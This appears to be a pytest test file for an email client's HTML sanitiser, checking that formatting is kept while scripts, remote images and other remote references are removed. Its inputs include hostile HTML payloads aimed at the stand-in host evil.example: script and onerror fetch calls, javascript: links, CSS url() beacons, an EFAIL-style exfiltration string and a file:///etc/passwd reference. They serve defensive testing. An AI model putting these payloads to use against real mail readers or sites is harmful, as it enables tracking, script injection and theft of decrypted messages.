"""HTML sanitising: formatting survives, active content and every remote reference do not."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from inbox_app.mail.html import sanitize_html


class _Attributes(HTMLParser):
    """Every (tag, attribute, value) of a fragment, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.extend((tag, name, value or "") for name, value in attrs)


def assert_nothing_remote(cleaned: str) -> None:
    """No tag or attribute left that makes a viewer fetch or run anything."""
    lowered = cleaned.lower()
    for tag in ("<script", "<style", "<base", "<meta", "<link", "<iframe", "<object",
                "<embed", "<svg", "<form", "<input", "<video", "<audio"):  # fmt: skip
        assert tag not in lowered
    assert "url(" not in lowered
    parser = _Attributes()
    parser.feed(cleaned)
    parser.close()
    for tag, name, value in parser.found:
        if name == "src":
            assert tag == "img"
            assert value.startswith("cid:"), value
        elif name == "href":
            assert tag == "a"
            assert value.startswith(("http://", "https://", "mailto:")), value
        else:
            assert name in {"alt", "title", "style", "rel", "width", "height", "color",
                            "size", "align", "colspan", "border"}, name  # fmt: skip
            assert ":" not in value or name in {"style", "alt", "title"}, value


def test_formatting_is_kept() -> None:
    html = (
        "<h1>Title</h1><p align='center'><b>bold</b> <i>it</i> <u>u</u></p>"
        "<blockquote>quoted</blockquote><ul><li>one</li></ul>"
        "<table border='1'><tr><td colspan='2'>cell</td></tr></table>"
        "<font color='#ff0000' size='+1'>red</font>"
        "<span style='color: red; font-weight: bold'>styled</span>"
    )
    cleaned = sanitize_html(html)
    expected = [
        "<h1>",
        "<b>bold</b>",
        "<blockquote>",
        "<li>",
        'colspan="2"',
        'color="#ff0000"',
        'size="+1"',
        'style="color: red; font-weight: bold"',
    ]
    for kept in expected:
        assert kept in cleaned


def test_cid_images_stay_and_remote_images_go() -> None:
    cleaned = sanitize_html(
        '<img src="cid:logo@example.com" alt="logo">'
        '<img src="http://evil.example/track.gif">'
        '<img src="https://evil.example/t.gif">'
        '<img src="//evil.example/t.gif">'
        '<img src="ftp://evil.example/t.gif">'
        '<img src="relative.png">'
        '<img src="file:///etc/passwd">'
        '<img src="data:image/png;base64,iVBORw0KGgo=">'
    )
    assert '<img src="cid:logo@example.com" alt="logo">' in cleaned
    assert "evil" not in cleaned
    assert "relative" not in cleaned
    assert "file:" not in cleaned
    assert "data:" not in cleaned
    assert_nothing_remote(cleaned)


def test_efail_unclosed_img_exfiltrates_nothing() -> None:
    # EFAIL direct exfiltration: the attacker's part opens an attribute that the
    # decrypted text would complete; the reader must not turn it into a request.
    html = '<img src="http://evil.example/?SECRET decrypted text follows</p><p>more'
    cleaned = sanitize_html(html)
    assert "evil" not in cleaned
    assert_nothing_remote(cleaned)


@pytest.mark.parametrize(
    "attack",
    [
        '<base href="http://evil.example/"><img src="cid:x">',
        '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
        '<link rel="stylesheet" href="http://evil.example/s.css">',
        "<style>body { background: url(http://evil.example/bg.png) }</style>",
        '<p style="background: url(http://evil.example/bg.png)">x</p>',
        '<p style="background-color: u\\72l(http://evil.example/)">x</p>',
        "<p style=\"color: red; background-image: url('http://evil.example/')\">x</p>",
        '<img srcset="http://evil.example/a.png 1x" src="cid:x">',
        '<table background="http://evil.example/t.png"><tr><td>x</td></tr></table>',
        '<body background="http://evil.example/b.png">x</body>',
        '<svg><image href="http://evil.example/s.png"/></svg>',
        '<svg><use xlink:href="http://evil.example/#a"/></svg>',
        "<script>fetch('http://evil.example/')</script>",
        '<iframe src="http://evil.example/"></iframe>',
        '<object data="http://evil.example/o.swf"></object>',
        '<embed src="http://evil.example/e.swf">',
        '<video poster="http://evil.example/p.png"></video>',
        '<audio src="http://evil.example/a.mp3"></audio>',
        '<form action="http://evil.example/"><input name="q"><button>Go</button></form>',
        '<img src="cid:x" onerror="fetch(\'http://evil.example/\')">',
        '<a href="javascript:alert(1)">click</a>',
        '<a href="jav&#x09;ascript:alert(1)">click</a>',
        '<a href="data:text/html,<script>alert(1)</script>">click</a>',
        "<!--[if IE]><img src='http://evil.example/ie.png'><![endif]-->",
        '<math><mi xlink:href="http://evil.example/">x</mi></math>',
        '<input type="image" src="http://evil.example/i.png">',
    ],
)
def test_attacks(attack: str) -> None:
    cleaned = sanitize_html(attack)
    assert "evil" not in cleaned
    assert "alert" not in cleaned
    assert_nothing_remote(cleaned)


def test_links_stay_as_text_links_only_for_safe_schemes() -> None:
    cleaned = sanitize_html(
        '<a href="https://example.com/doc">doc</a> <a href="mailto:bob@example.org">bob</a> '
        '<a href="//example.com/x">rel</a> <a href="#top">anchor</a>'
    )
    assert 'href="https://example.com/doc"' in cleaned
    assert 'href="mailto:bob@example.org"' in cleaned
    assert 'href="//example.com/x"' not in cleaned
    assert 'href="#top"' not in cleaned
    assert ">rel</a>" in cleaned


def test_style_keeps_only_plain_declarations() -> None:
    cleaned = sanitize_html(
        '<span style="color: rgb(255, 0, 0); position: fixed; font-size: 12pt; '
        'color: expression(alert(1)); text-align: center">x</span>'
    )
    assert 'style="color: rgb(255, 0, 0); font-size: 12pt; text-align: center"' in cleaned


def test_script_and_style_content_disappear() -> None:
    cleaned = sanitize_html(
        "<title>Secret title</title><script>var x = 1;</script><style>p{}</style><p>Hi</p>"
    )
    assert cleaned == "<p>Hi</p>"
